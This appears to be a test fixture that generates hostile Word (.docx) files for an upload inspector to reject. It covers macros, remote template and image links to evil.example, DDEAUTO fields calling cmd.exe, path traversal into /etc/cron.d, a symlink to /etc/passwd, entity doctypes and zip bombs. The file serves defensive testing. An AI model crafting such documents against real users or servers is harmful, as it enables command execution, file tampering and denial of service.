import { gzipSync } from 'node:zlib'
import { MAX_UPLOAD_BYTES } from '../../../shared/template-files.ts'
import { hostileFiles } from './hostile.ts'
import { type Entry, localEntry, zipOf } from './zip.ts'

const OFFICE = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'
export const MAIN =
  'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml'
const XML = '<?xml version="1.0" encoding="UTF-8"?>'

type Link = { type: string; target: string; external?: boolean }

const contentTypes = (main: string, extra = '') =>
  `${XML}<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="${main}"/>${extra}</Types>`

export const relationships = (links: readonly Link[]) =>
  `${XML}<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${links
    .map(
      ({ type, target, external }, index) =>
        `<Relationship Id="rId${index}" Type="${OFFICE}/${type}" Target="${target}"${external ? ' TargetMode="External"' : ''}/>`,
    )
    .join('')}</Relationships>`

const documentXml = (body: string) =>
  `${XML}<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p>${body}</w:p></w:body></w:document>`

export type Word = {
  body?: string
  document?: string | Uint8Array
  links?: readonly Link[]
  mainType?: string
  types?: string
  /** Entries added after the parts, or replacing those with the same name. */
  extra?: readonly Entry[]
}

export const wordParts = ({
  body = '',
  document,
  links = [],
  mainType = MAIN,
  types = '',
  extra = [],
}: Word): Entry[] => {
  const parts: Entry[] = [
    { name: '[Content_Types].xml', data: contentTypes(mainType, types) },
    {
      name: '_rels/.rels',
      data: relationships([{ type: 'officeDocument', target: 'word/document.xml' }]),
    },
    { name: 'word/document.xml', data: document ?? documentXml(body) },
    { name: 'word/_rels/document.xml.rels', data: relationships(links) },
  ]
  return [...parts.filter(({ name }) => !extra.some((entry) => entry.name === name)), ...extra]
}

/** A small valid Word file with these changes. */
export const wordFile = (changes: Word = {}): Buffer => zipOf(wordParts(changes))

export const field = (...runs: string[]) =>
  `<w:r><w:fldChar w:fldCharType="begin"/></w:r>${runs
    .map((text) => `<w:r><w:instrText>${text}</w:instrText></w:r>`)
    .join('')}<w:r><w:fldChar w:fldCharType="end"/></w:r>`

const MEGABYTE = 1024 * 1024
/** The length in bytes of a local file header before the name. */
const HEADER = 30
export const withPart = (name: string, data: Entry['data'], more: Partial<Entry> = {}): Word => ({
  extra: [{ name, data, ...more }],
})
export const withLink = (type: string, target: string, external = true): Word => ({
  links: [{ type, target, external }],
})

const withBrokenPart = (name: string) => ({
  extra: [{ name, data: documentXml('x'), isCorrupted: true }],
})

/** Files named .docx that the inspection must reject, each with its defect. */
export const HOSTILE_WORD = hostileFiles<Word>(
  [
    ['nothing', 'wrongType', () => Buffer.alloc(0)],
    ['one byte', 'wrongType', () => Buffer.from('P')],
    ['a PDF', 'wrongType', () => Buffer.from('%PDF-1.7\n%%EOF')],
    ['a plain archive', 'wrongType', () => zipOf([{ name: 'a.txt', data: 'a' }])],
    [
      'a spreadsheet',
      'wrongType',
      {
        mainType: 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml',
      },
    ],
    ['a part with corrupt compressed data', 'damaged', withBrokenPart('word/document.xml')],
    ['half a file', 'damaged', () => wordFile().subarray(0, 400)],
    ['macros', 'macros', withPart('word/vbaProject.bin', 'x')],
    [
      'macros under another name',
      'macros',
      { ...withLink('vbaProject', 'theme.bin', false), ...withPart('word/theme.bin', 'x') },
    ],
    [
      'the content type of a document with macros',
      'macros',
      { mainType: 'application/vnd.ms-word.document.macroEnabled.main+xml' },
    ],
    [
      'a linked template',
      'external',
      {
        ...withPart(
          'word/_rels/settings.xml.rels',
          relationships([
            { type: 'attachedTemplate', target: 'https://evil.example/t.dotm', external: true },
          ]),
        ),
      },
    ],
    ['a linked picture', 'external', withLink('image', 'https://evil.example/a.png')],
    [
      'an image by URL',
      'external',
      { body: '<w:pict><v:imagedata src="https://evil.example/a.png"/></w:pict>' },
    ],
    [
      'a link mode written with entities',
      'external',
      withPart(
        'word/_rels/document.xml.rels',
        relationships([
          { type: 'image', target: 'https://e.example/a.png', external: true },
        ]).replace('External', '&#69;xtern&#x61;l'),
      ),
    ],
    ['a link to a file of the reader', 'links', withLink('hyperlink', 'file://///server/share')],
    ['an embedded object', 'embedded', withLink('oleObject', 'embeddings/o.bin', false)],
    [
      'an object of another program',
      'embedded',
      withPart('word/media/image1.png', Buffer.from('d0cf11e0a1b11ae1', 'hex')),
    ],
    ['a chunk of another format', 'embedded', withLink('aFChunk', 'chunk.rtf', false)],
    ['a command in a field', 'external', { body: field('DDEAUTO c:\\\\windows\\\\cmd.exe') }],
    ['a command over several runs', 'external', { body: field(' D', 'DE', ' cmd') }],
    [
      'a picture in a simple field',
      'external',
      {
        body: '<w:fldSimple w:instr="INCLUDEPICTURE &quot;http://e.example/a&quot;"/>',
      },
    ],
    [
      'a field named by another field',
      'external',
      {
        body: `<w:r><w:fldChar w:fldCharType="begin"/></w:r>${field('QUOTE 68 68 69')}<w:r><w:fldChar w:fldCharType="end"/></w:r>`,
      },
    ],
    [
      'a document type with entities',
      'damaged',
      { document: `<!DOCTYPE a [<!ENTITY b "c">]>${documentXml('&b;')}` },
    ],
    [
      'text in another encoding',
      'damaged',
      { document: Buffer.from(`\ufeff${documentXml('')}`, 'utf16le') },
    ],
    [
      'a stylesheet of another program',
      'unusual',
      {
        document: documentXml('').replace(
          '?>',
          '?><?xml-stylesheet href="https://evil.example/a"?>',
        ),
      },
    ],
    ['broken XML', 'damaged', { document: '<w:document><w:body a=b></w:document>' }],
    [
      'an archive inside',
      'archive',
      withPart('word/media/a.png', zipOf([{ name: 'a', data: 'a' }])),
    ],
    ['a compressed part inside', 'archive', withPart('word/media/a.emz', gzipSync('a'))],
    ['a path traversal', 'unsafeNames', withPart('../../etc/cron.d/x', 'x')],
    ['a symbolic link', 'unsafeNames', withPart('word/link', '/etc/passwd', { mode: 0o120777 })],
    [
      'parts that share their bytes',
      'damaged',
      () => zipOf([...wordParts({}), { ...wordParts({})[0], name: 'x', data: '', offset: 0 }]),
    ],
    [
      'a part within the bytes of another',
      'damaged',
      () => {
        const inner: Entry = { name: 'word/b', data: 'b', stored: true }
        const outer: Entry = { name: 'word/a', data: localEntry(inner), stored: true }
        return zipOf([outer, ...wordParts({}), { ...inner, offset: HEADER + outer.name.length }])
      },
    ],
    ['a password', 'encrypted', withPart('word/a.xml', '<a/>', { flags: 1 })],
    [
      'a zip bomb with its real size declared',
      'tooMuchInside',
      withPart('word/a.xml', '<a/>', { declared: 4_000_000_000 }),
    ],
    [
      'a zip bomb that declares four bytes',
      'tooMuchInside',
      () =>
        wordFile(withPart('word/a.xml', Buffer.alloc(MEGABYTE), { declared: 4, brokenLate: true })),
    ],
    ['a hundred thousand parts', 'tooMuchInside', () => zipOf(wordParts({}), { count: 0xffff })],
    ['a file over the upload limit', 'tooLarge', () => Buffer.alloc(MAX_UPLOAD_BYTES + 1)],
  ],
  wordFile,
)
